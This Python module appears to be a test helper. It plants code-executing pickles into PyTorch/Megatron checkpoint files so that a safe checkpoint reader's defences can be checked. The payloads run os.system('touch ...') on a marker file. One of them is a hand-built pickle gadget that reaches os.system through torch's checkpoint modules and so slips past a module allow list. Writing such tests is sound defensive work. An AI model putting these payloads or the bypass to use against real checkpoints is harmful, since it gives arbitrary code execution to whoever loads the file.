"""Plants pickles that run code in copies of checkpoints, one in each place that holds a pickle."""

import io
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, Metadata

from topk_megatron.checkpoint.reader import COMMON_KEY


class Touch:
    """Unpickled, creates a file; `marker` is where."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)


def gadget(marker: Path) -> bytes:
    """Runs a command by names of torch's checkpoint modules alone.

    ``_get_device_module`` is ``getattr`` on what ``torch._utils`` calls ``torch``. The pickle gets
    the module ``torch._utils`` by it, puts ``os`` in the place of ``torch`` there, and gets
    ``os.system``. An allow list of whole modules lets it pass.
    """
    module = b"torch.distributed.checkpoint.filesystem"
    function = b"c" + module + b"\n_get_device_module\nq\x00"
    change = b"}" + _text("torch") + b"c" + module + b"\nos\nsb0"
    call = b"h\x00" + _text("system") + b"\x85R" + _text(f"touch {marker}") + b"\x85R."
    return b"\x80\x02" + function + _text("_utils") + b"\x85R" + change + call


def _text(text: str) -> bytes:
    """A pickle's BINUNICODE."""
    return b"X" + len(text).to_bytes(4, "little") + text.encode()


def reduce_call(marker: Path) -> bytes:
    """The plain form: the pickle calls os.system."""
    return pickle.dumps(Touch(marker), protocol=2)


def modern_call(marker: Path) -> bytes:
    """The same by protocol 4, whose names are on the stack and not in the opcode."""
    return pickle.dumps(Touch(marker), protocol=4)


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "call": reduce_call,
    "call by protocol 4": modern_call,
    "module gadget": gadget,
}


def as_saved(payload: bytes) -> bytes:
    """The payload in the archive that torch.save writes."""
    saved = io.BytesIO()
    torch.save([{"iteration": 10}], saved)
    content = io.BytesIO()
    with zipfile.ZipFile(saved) as old, zipfile.ZipFile(content, "w") as new:
        for name in old.namelist():
            new.writestr(name, payload if name.endswith("data.pkl") else old.read(name))
    return content.getvalue()


def _index(directory: Path) -> Metadata:
    return pickle.loads((directory / ".metadata").read_bytes())


def in_index(directory: Path, payload: bytes) -> None:
    """In the place of the index."""
    (directory / ".metadata").write_bytes(payload)


def in_common_state(directory: Path, payload: bytes) -> None:
    """In the place of the arguments, in a data file; the index is clean."""
    _replace_object(directory, COMMON_KEY, payload)


def in_common_file(directory: Path, payload: bytes) -> None:
    """In ``common.pt``, where older versions of Megatron kept the arguments."""
    (directory / "common.pt").write_bytes(as_saved(payload))


def in_another_object(directory: Path, payload: bytes) -> None:
    """In an object that only Megatron's own loader opens, such as a generator's state."""
    index = _index(directory)
    key = next(
        key
        for key, entry in index.state_dict_metadata.items()
        if isinstance(entry, BytesStorageMetadata) and key != COMMON_KEY
    )
    _replace_object(directory, key, payload)


def _replace_object(directory: Path, key: str, payload: bytes) -> None:
    index = _index(directory)
    (place,) = (info for name, info in index.storage_data.items() if name.fqn == key)
    content = as_saved(payload)
    path = directory / place.relative_path
    place.offset, place.length = path.stat().st_size, len(content)
    with path.open("ab") as file:
        file.write(content)
    (directory / ".metadata").write_bytes(pickle.dumps(index))


PLACES = {
    "index": in_index,
    "common state": in_common_state,
    "common file": in_common_file,
    "another object": in_another_object,
}
